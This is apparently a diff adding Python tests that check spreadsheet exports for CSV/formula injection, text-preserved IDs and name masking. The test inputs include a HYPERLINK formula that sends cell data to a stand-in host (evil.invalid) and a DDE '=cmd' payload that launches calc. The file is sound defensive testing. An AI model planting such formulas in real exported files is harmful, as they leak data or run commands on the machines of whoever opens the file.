@@ -1,0 +1,50 @@
+"""RM list files: inert in Excel (OWASP CSV injection), ids kept as text, masking safe."""
+
+from __future__ import annotations
+
+import zipfile
+
+import pandas as pd
+
+from helpers import exports, privacy
+
+HOSTILE = ['=HYPERLINK("http://evil.invalid/"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "ok"]
+
+
+def test_csv_cells_that_start_like_formulas_get_a_quote(tmp_path):
+    frame = pd.DataFrame({"rm_id": HOSTILE, "balance": [-5.0, 1, 2, 3, 4, 5]})
+    path = exports.write_csv(frame, tmp_path / "list.csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for Excel on Chinese Windows
+    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
+    assert back["rm_id"].tolist()[:5] == ["'" + v for v in HOSTILE[:5]]
+    assert back["rm_id"].iloc[5] == "ok"
+    assert back["balance"].iloc[0] == "-5.0"  # a negative number stays a number
+
+
+def test_xlsx_has_no_formula_cells_and_keeps_ids_as_text(tmp_path):
+    frame = pd.DataFrame({"customer_id": ["000123", "1234567890123456789"], "rm_id": HOSTILE[:2]})
+    path = exports.write_xlsx(frame, tmp_path / "list.xlsx", sheet="call_list")
+    with zipfile.ZipFile(path) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+        strings = (
+            archive.read("xl/sharedStrings.xml").decode()
+            if "xl/sharedStrings.xml" in archive.namelist()
+            else ""
+        )
+    assert "<f>" not in sheet
+    from openpyxl import load_workbook
+
+    book = load_workbook(path)
+    assert book.sheetnames == ["call_list"]
+    cells = book["call_list"]
+    assert cells["A2"].value == "000123" and cells["A3"].value == "1234567890123456789"
+    assert cells["B2"].data_type == "s" and cells.freeze_panes == "A2"
+    assert "HYPERLINK" in sheet + strings or cells["B2"].value.startswith("=HYPERLINK")
+
+
+def test_masked_names_never_start_a_formula():
+    assert privacy.mask_name("张三丰") == "张**"
+    for hostile in ("=cmd|' /C calc'!A0", "+x", "-x", "@x", "<script>"):
+        masked = privacy.mask_name(hostile)
+        assert set(masked) == {"*"}, masked
